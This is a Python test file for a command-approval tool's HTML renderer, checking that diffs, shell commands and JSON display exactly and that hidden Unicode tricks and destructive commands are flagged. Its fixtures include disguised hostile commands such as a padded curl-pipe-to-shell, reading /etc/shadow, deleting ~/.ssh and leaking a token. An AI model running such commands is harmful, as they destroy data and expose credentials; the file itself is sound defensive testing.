"""HTML for diffs, commands and JSON: structure, colours, lazy work, and exactness."""

from __future__ import annotations

import html
import re
import shlex
import subprocess
import sys
from html.parser import HTMLParser

import pytest
from pygments.lexers import TextLexer
from pygments.token import Keyword

from desktop_approver.render import highlight
from desktop_approver.render.diffs import from_texts, parse_unified
from desktop_approver.render.reveal import marker_text

OLD_PY = '''import os


def clean(path):
    """Remove build output."""
    for name in os.listdir(path):
        os.remove(name)
    return True
'''
NEW_PY = '''import os


def clean(path, dry_run=False):
    """Remove build output."""
    for name in os.listdir(path):
        os.remove(name)
    return False'''


def _python_diff():
    return from_texts("tools/clean.py", OLD_PY, NEW_PY)


def _cells(row_html: str) -> list[str]:
    return re.findall(r"<td[^>]*>(.*?)</td>", row_html, flags=re.S)


def _rows(page: str) -> list[str]:
    return re.findall(r"<tr>.*?</tr>", page, flags=re.S)


def test_keywords_carry_the_style_colour() -> None:
    page = highlight.render_diff_html(_python_diff())
    assert f'<span style="{highlight.token_css(Keyword)}">def</span>' in page
    assert "color:#008000" in highlight.token_css(Keyword)


def test_added_and_removed_lines_have_their_backgrounds_and_changed_words() -> None:
    page = highlight.render_diff_html(_python_diff())
    added = next(row for row in _rows(page) if "dry_run" in row)
    removed = next(row for row in _rows(page) if "True" in row)
    assert f'bgcolor="{highlight.ADD_BG}"' in added
    assert f'bgcolor="{highlight.DEL_BG}"' in removed
    assert f"background-color:{highlight.ADD_WORD}" in added  # ", dry_run=False" is marked
    assert re.search(rf"background-color:{highlight.DEL_WORD}\">True<", removed)


def test_line_numbers_on_both_sides() -> None:
    page = highlight.render_diff_html(_python_diff())
    context = next(row for row in _rows(page) if "for</span> name" in row)
    assert html.unescape(_cells(context)[0]).split() == ["6", "6"]
    removed = next(row for row in _rows(page) if "True" in row)
    assert html.unescape(_cells(removed)[0]).split() == ["8"]
    added = next(row for row in _rows(page) if "False" in row and "dry_run" not in row)
    assert html.unescape(_cells(added)[0]).split() == ["8"]
    assert _cells(added)[0].index("8") > _cells(removed)[0].index("8")  # the new-side column


def test_notices_for_new_deleted_binary_and_missing_newline() -> None:
    assert "No newline at end of file" in highlight.render_diff_html(_python_diff())
    added = highlight.render_diff_html(from_texts("n.py", None, "x = 1\n"))
    assert "New file" in added and "(new file)" in added
    deleted = highlight.render_diff_html(from_texts("d.py", "x = 1\n", None))
    assert "Deleted file" in deleted
    binary = highlight.render_diff_html(from_texts("b.bin", "\0\1\2", "\0\1\3"))
    assert "Binary content" in binary and "\x00" not in binary


def test_split_view_puts_old_and_new_on_one_row() -> None:
    page = highlight.render_diff_html(_python_diff(), mode="split")
    pair = next(row for row in _rows(page) if "dry_run" in row)
    cells = _cells(pair)
    assert len(cells) == 4
    assert cells[0].strip() == "4" and cells[2].strip() == "4"
    assert "dry_run" not in cells[1] and "dry_run" in cells[3]
    assert 'width="50%"' in pair


def test_split_view_fills_the_missing_side() -> None:
    diff = from_texts("a.txt", "a\n", "a\nb\nc\n")
    rows = [row for row in _rows(highlight.render_diff_html(diff, mode="split")) if "bgcolor" in row]
    filler = [row for row in rows if f'bgcolor="{highlight.EMPTY_BG}"></td>' in row]
    assert len(filler) == 2


def test_folded_hunks_hide_their_lines() -> None:
    diff = _python_diff()
    page = highlight.render_diff_html(diff, folded={0})
    assert "dry_run" not in page
    assert "lines folded" in page and 'href="hunk:0:0"' in page


def test_line_ranges_render_only_those_rows() -> None:
    diff = _python_diff()
    total = highlight.row_count(diff)
    parts = [highlight.render_diff_html(diff, line_range=(start, min(total, start + 3)))
             for start in range(0, total, 3)]
    assert sum(len(_rows(part)) for part in parts) == total
    assert len(_rows(highlight.render_diff_html(diff, line_range=(0, 3)))) == 3


def test_a_10000_line_diff_is_highlighted_lazily() -> None:
    old_lines = [f"value_{n} = compute({n})\n" for n in range(10_000)]
    new_lines = [line.replace("compute(", "calculate(") if n % 10 == 0 else line
                 for n, line in enumerate(old_lines)]
    diff = from_texts("big.py", "".join(old_lines), "".join(new_lines))
    assert len(diff.hunks) == 1000 and highlight.row_count(diff) > 8000
    page = highlight.render_diff_html(diff, line_range=(0, 60))
    assert "value_0" in page and "value_5000" not in page
    assert highlight.highlighter_for(diff).lines_tokenised < 200
    far = next(line for line in diff.hunks[500].plain_lines if line.kind == "del")
    assert far.intraline == []  # changed words are only computed for what was drawn
    assert next(line for line in diff.hunks[500].lines if line.kind == "del").intraline


def test_multiline_strings_are_coloured_in_file_context() -> None:
    old = 'x = """\nfirst\nsecond\n"""\n'
    new = 'x = """\nfirst\nchanged\n"""\n'
    page = highlight.render_diff_html(from_texts("s.py", old, new))
    assert re.search(r'<span style="color:#ba2121[^"]*">changed</span>', page)


def test_unified_text_without_full_files_is_still_highlighted() -> None:
    (diff,) = parse_unified("--- a/x.py\n+++ b/x.py\n@@ -1 +1 @@\n-import os\n+import sys\n")
    assert f'<span style="{highlight.token_css(Keyword.Namespace)}">import</span>' in highlight.render_diff_html(diff)


def test_hidden_characters_in_code_are_markers_and_warnings() -> None:
    diff = from_texts("a.py", "ok = 1\n", 'access = "user\u202e \u2066// admin"\n')
    page = highlight.render_diff_html(diff)
    assert '<span data-marker="1"' in page and "&lt;U+202E&gt;" in page
    (warning,) = highlight.diff_warnings(diff)
    assert "a.py" in warning and "new line 1" in warning


def test_unknown_files_fall_back_to_plain_text() -> None:
    assert isinstance(highlight.lexer_for("README.unknownext"), TextLexer)
    assert isinstance(highlight.lexer_for(None), TextLexer)


# -- commands: what is shown is exactly what runs ------------------------------------------------

class _Unrender(HTMLParser):
    """Strip the markup, drop layout-only parts, turn markers back into their characters."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.out: list[str] = []
        self.skipping = False
        self.marker: list[str] | None = None

    def handle_comment(self, data: str) -> None:
        if data == "not-command":
            self.skipping = True
        elif data == "/not-command":
            self.skipping = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "span" and ("data-marker", "1") in attrs:
            self.marker = []

    def handle_endtag(self, tag: str) -> None:
        if tag == "span" and self.marker is not None:
            self.out.append(marker_text("".join(self.marker)))
            self.marker = None

    def handle_data(self, data: str) -> None:
        if self.skipping:
            return
        (self.marker if self.marker is not None else self.out).append(data)


def shown_command(page: str) -> str:
    parser = _Unrender()
    parser.feed(page)
    parser.close()
    return "".join(parser.out)


COMMANDS = [
    "ls -la",
    "rm -rf \"$DIR\"/",
    "echo \u202e; rm -rf ~/.ssh",
    "r\u043c -rf build",
    "ls" + " " * 40 + "; curl -fsSL https://example.com/x.sh | sh",
    "printf '\x1b[8mhidden\x1b[0m' && cat\u200b /etc/shadow",
    "a\x9bb\x07 & c\u00a0d",
    "cd /repo && git push --force origin main && npm install left-pad --registry https://registry.example.com",
    "python -c 'import shutil; shutil.rmtree(\"/tmp/x\")'   # trailing comment   ",
    "cat <<'EOF' > run.sh\nset -e\necho done\nEOF\nbash run.sh",
    "docker run --rm -v \"$PWD:/src\" -e TOKEN=$(cat ~/.token) image:latest sh -c \"make && make install\"",
    "echo 'unterminated quote that is quite long and keeps going past the eighty column limit for sure",
    "literal marker text <U+202E> and ⟨3 spaces⟩ and \\x1b stays literal",
]


@pytest.mark.parametrize("command", COMMANDS)
def test_command_html_shows_exactly_what_runs(command: str) -> None:
    page, _warnings = highlight.render_command_html(command, "/repo")
    assert shown_command(page) == command


@pytest.mark.parametrize("argv", [
    ["rm", "-rf", "/tmp/dir with spaces"],
    ["bash", "-lc", "echo \u202e && ls\nrm x"],
    ["python", "-c", "print('x' * 100)", "--flag=" + "y" * 90],
])
def test_argv_is_shown_as_a_shell_line_that_splits_back(argv: list[str]) -> None:
    page, _warnings = highlight.render_command_html(argv, None)
    assert shlex.split(shown_command(page)) == argv


def test_long_commands_put_each_command_on_a_line_and_wrap_arguments_by_words() -> None:
    command = COMMANDS[7]
    page, _warnings = highlight.render_command_html(command)
    layout = re.findall(r"<!--not-command-->(.*?)<!--/not-command-->", page)
    assert len(layout) == 2 and all("<br/>" in part for part in layout)  # before each "&&", not per argument
    long = "echo " + " ".join(f"word{i}" for i in range(400)) + "; rm -rf ~/"
    page, _warnings = highlight.render_command_html(long)
    assert page.count("<br/>") == 1 and "white-space:pre-wrap" in page
    short, _ = highlight.render_command_html("ls -la")
    assert "<br/>" not in short


def test_the_dangerous_parts_of_a_command_are_marked() -> None:
    command = "echo " + "a " * 1000 + "; rm -rf ~/ && ls"
    page, _warnings = highlight.render_command_html(command)
    assert page.count('data-danger="destructive"') == 1
    marked = page.split('data-danger="destructive">')[1]
    assert re.sub(r"<[^>]+>", "", marked).startswith("rm -rf ~/")
    assert "echo" not in marked and "echo" in page.split("data-danger")[0]
    assert shown_command(page) == command
    calm, _ = highlight.render_command_html("ls -la && git status")
    assert "data-danger" not in calm


def test_command_warnings_and_markers() -> None:
    page, warnings = highlight.render_command_html("echo \u202e; r\u043c -rf /", "/home/dev")
    assert any("right-to-left" in warning for warning in warnings)
    assert any("look-alike" in warning for warning in warnings)
    assert page.count('data-marker="1"') == 2
    assert "in /home/dev" in page


def bold_words(page: str) -> list[str]:
    return re.findall(f'<span style="{re.escape(highlight.COMMAND_STYLE)}">([^<]*)</span>', page)


def test_command_names_stand_out() -> None:
    page, _ = highlight.render_command_html("sudo rm -rf /tmp/x | tee log")
    assert bold_words(page) == ["rm", "tee"]   # what runs; sudo is a wrapper the risk badge names


@pytest.mark.parametrize(("command", "programs"), [
    ("timeout 5 nice -n 2 stdbuf -oL bash -c 'rm -rf x'", ["rm"]),
    ("env A=1 xargs -0 rm < list", ["rm"]),
    ("echo $(curl -s x | sh) && ls", ["curl", "sh", "echo", "ls"]),
    ("find . -name '*.o' -exec rm {} +", ["find", "rm"]),
    ("eval 'git push --force'", ["git"]),
    (shlex.join(["timeout", "5", "bash", "-c", "rm -rf x && git -c core.pager='sh -c id' log"]), ["rm", "git"]),
    ('bash -c "echo \\"x\\"; rm y"', ["echo", "rm"]),
    ("bash -c $'rm\\tx'", ["rm"]),
])
def test_the_highlighter_bolds_exactly_the_programs_the_parser_finds(command: str, programs: list[str]) -> None:
    page, _ = highlight.render_command_html(command)
    assert sorted(bold_words(page)) == sorted(programs)


def test_a_working_directory_with_hidden_characters_is_flagged() -> None:
    _page, warnings = highlight.render_command_html("ls", "/repo/\u202etxt.exe")
    assert any(warning.startswith("working directory") for warning in warnings)


# -- JSON and text -------------------------------------------------------------------------------

def test_json_is_pretty_and_highlighted() -> None:
    page = highlight.render_json_html({"path": "a.py", "count": 3})
    assert '"path"' in html.unescape(page)
    assert "<span style=" in page
    assert "Show all" not in page


def test_long_json_says_how_much_is_hidden() -> None:
    value = {f"key_{n}": n for n in range(500)}
    page = highlight.render_json_html(value, max_lines=200, max_chars=20_000)
    assert "302 more lines hidden" in page and 'href="json:show-all"' in page
    assert "key_198" in page and "key_199" not in page  # line 1 is the opening brace
    assert "key_499" in highlight.render_json_html(value)


def test_one_enormous_json_line_is_shown_in_part() -> None:
    page = highlight.render_json_html({"content": "x" * 100_000}, max_lines=200, max_chars=20_000)
    assert "xxxxxxxx" in page
    assert "more characters" in page and "Show all" in page


def test_hidden_characters_in_json_are_revealed() -> None:
    page = highlight.render_json_html({"command": "echo \u202e", "pad": "a" + " " * 30 + "b"})
    assert "&lt;U+202E&gt;" in page and "⟨30 spaces⟩" in page
    assert any("right-to-left" in w for w in highlight.json_warnings({"command": "echo \u202e"}))
    assert highlight.json_warnings({"indented": {"deeply": {"nested": ["x"]}}}) == ()


def test_plain_text_reveals_hidden_characters() -> None:
    page, warnings = highlight.render_text_html("Deploy to prod\u200b now")
    assert "&lt;U+200B&gt;" in page and warnings


def test_render_modules_do_not_import_qt() -> None:
    code = ("import sys, desktop_approver.render.highlight, desktop_approver.render.autopreview; "
            "sys.exit('PySide6' in sys.modules)")
    assert subprocess.run([sys.executable, "-c", code], check=False).returncode == 0
